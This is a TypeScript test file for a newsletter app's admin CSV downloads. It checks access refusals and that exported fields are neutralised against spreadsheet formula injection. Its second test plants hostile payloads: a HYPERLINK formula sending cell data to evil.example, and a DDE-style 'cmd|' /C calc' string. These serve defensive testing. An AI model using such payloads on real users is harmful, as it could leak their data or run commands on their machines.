/**
 * The newsletter CSV downloads, on PGlite and PostgreSQL: a newsletter's sends and a send's
 * deliveries are 401 without a session, 403 for a role that may not read them, 404 for another
 * account's newsletter or send, 400 for bad ids or date ranges and 405 for another method, all in
 * the JSON error shape and changing nothing. Formulas in subjects, addresses, errors and
 * subscriber names come out neutralised in those and in the subscribers export: no field starts
 * with a formula character.
 */
import { describe, expect, it, vi } from "vitest";

import { GET as EXPORT_CSV } from "@/app/api/admin/exports/[export_file]/route";
import * as sendsCsvRoute from "@/app/api/admin/newsletters/[id]/sends.csv/route";
import { GET as DELIVERIES_CSV } from "@/app/api/admin/newsletters/[id]/sends/[sendId]/deliveries.csv/route";
import type { AdminSession } from "@/server/auth/admin-session";
import { call } from "@/server/testing/engagement";
import { expectRefused, forgetRateLimits, hostileSetup, snapshot } from "@/server/testing/hostile-newsletters";
import { insertTestSend } from "@/server/testing/newsletters";
import { createTestStaff } from "@/server/testing/staff";

import * as subscribeRoute from "./subscribe/route";

const session = vi.hoisted(() => ({ current: null as AdminSession | null }));
vi.mock("@/server/auth/next-auth", () => ({ getAdminSession: () => Promise.resolve(session.current) }));

describe("the CSV downloads", () => {
  const csvLines = async (res: Response) =>
    (await res.text())
      .replace(/^\uFEFF/, "")
      .split("\r\n")
      .filter(Boolean);
  /** The fields of one CSV line (RFC 4180 quoting; no line breaks inside fields here). */
  const csvFields = (line: string) =>
    [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, f]) =>
      f!.startsWith('"') ? f!.slice(1, -1).replaceAll('""', '"') : f!,
    );
  const sends = (id: string) =>
    sendsCsvRoute.GET(new Request(`http://localhost/api/admin/newsletters/${encodeURIComponent(id)}/sends.csv`), {
      params: Promise.resolve({ id }),
    });
  const deliveries = (id: string, sendId: string) =>
    DELIVERIES_CSV(
      new Request(
        `http://localhost/api/admin/newsletters/${encodeURIComponent(id)}/sends/${encodeURIComponent(sendId)}/deliveries.csv`,
      ),
      {
        params: Promise.resolve({ id, sendId }),
      },
    );

  it("refuse no session (401), another role (403), another account's ids (404) and bad ids (400)", async () => {
    const f = await hostileSetup();
    const editor = await createTestStaff(f.db, { account: f.account.id, roles: ["EDITOR"] });
    const moderator = await createTestStaff(f.db, { account: f.account.id, roles: ["MODERATOR"] });
    const before = await snapshot(f.db);
    const [id, sendId, otherId, otherSendId] = [f.daily.id, f.send.id, f.otherDaily.id, f.otherSend.id].map(String) as [
      string,
      string,
      string,
      string,
    ];

    session.current = null;
    await expectRefused(await sends(id), 401, "sends without a session");
    await expectRefused(await deliveries(id, sendId), 401, "deliveries without a session");
    session.current = moderator.session;
    await expectRefused(await sends(id), 403, "sends as a moderator");
    await expectRefused(await deliveries(id, sendId), 403, "deliveries as a moderator");

    session.current = editor.session;
    await expectRefused(await sends(otherId), 404, "another account's newsletter");
    await expectRefused(await deliveries(otherId, otherSendId), 404, "another account's send");
    await expectRefused(await deliveries(id, otherSendId), 404, "another account's send under this newsletter");
    await expectRefused(await deliveries(otherId, sendId), 404, "this send under another account's newsletter");
    await expectRefused(await deliveries(String(f.weekly.id), sendId), 404, "this send under another newsletter");
    for (const bad of ["%E0%A4%A", "1%00", "1e3x", "-1", "0", "2147483648", "9".repeat(400), "1.5", "abc", ""]) {
      await expectRefused(await sends(bad), 400, `sends of "${bad}"`);
      await expectRefused(await deliveries(id, bad), 400, `deliveries of "${bad}"`);
    }
    for (const query of [
      "?from=2026-11-01",
      "?from=2026-02-30&to=2026-03-01",
      "?from=2020-01-01&to=2026-01-01",
      "?from=%E0%A4%A&to=x",
    ]) {
      const res = await sendsCsvRoute.GET(
        new Request(`http://localhost/api/admin/newsletters/${id}/sends.csv${query}`),
        {
          params: Promise.resolve({ id }),
        },
      );
      await expectRefused(res, 400, `range ${query}`);
    }
    for (const method of ["POST", "PUT", "PATCH", "DELETE"] as const) {
      const res = await call(sendsCsvRoute[method], method, `/api/admin/newsletters/${id}/sends.csv`, { id }, {});
      expect(res.headers.get("allow")).toBe("GET, HEAD, OPTIONS");
      await expectRefused(res, 405, `${method} sends.csv`);
    }
    expect(await snapshot(f.db)).toBe(before);
  });

  it("neutralise formulas in subjects, addresses, errors and subscriber names", async () => {
    const f = await hostileSetup();
    const editor = await createTestStaff(f.db, { account: f.account.id, roles: ["EDITOR", "REVENUE"] });
    const payloads = {
      subject: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      email: "-2+3@example.com",
      error: "@SUM(1+1)*cmd|' /C calc'!A0",
    };
    const evil = await f.db.member.create({
      data: { accountId: f.account.id, name: "Evil", email: payloads.email, passwordHash: "-" },
    });
    const { send } = await insertTestSend(f.db, f.daily, [evil], {
      subject: payloads.subject,
      outcomes: [{ status: "FAILED" }],
    });
    await f.db.newsletterDelivery.updateMany({ where: { sendId: send.id }, data: { lastError: payloads.error } });
    // A reader signs up with a formula for a name.
    forgetRateLimits();
    const signUp = await call(
      subscribeRoute.POST,
      "POST",
      "/api/newsletters/subscribe",
      {},
      {
        account_id: f.account.id,
        email: "formula@example.com",
        newsletters: ["daily"],
        name: '=HYPERLINK("https://evil.example","Invoice")',
      },
    );
    expect(signUp.status).toBe(202);

    session.current = editor.session;
    const sendLines = await csvLines(await sends(String(f.daily.id)));
    expect(sendLines.find((l) => l.startsWith(`${send.id},`))).toContain(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
    );
    const mailLines = await csvLines(await deliveries(String(f.daily.id), String(send.id)));
    expect(mailLines[1]).toMatch(/^'-2\+3@example\.com,failed,/);
    expect(csvFields(mailLines[1]!).at(-1)).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");

    const exported = await EXPORT_CSV(new Request("http://localhost/api/admin/exports/subscribers.csv?who=all"), {
      params: Promise.resolve({ export_file: "subscribers.csv" }),
    });
    expect(exported.status).toBe(200);
    const formulaLine = (await csvLines(exported)).find((l) => l.includes("formula@example.com"))!;
    expect(csvFields(formulaLine)).toContain(`'=HYPERLINK("https://evil.example","Invoice")`);
    // No field anywhere starts with a formula character.
    for (const line of [...sendLines, ...mailLines, formulaLine]) {
      for (const field of csvFields(line)) expect(field, line).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
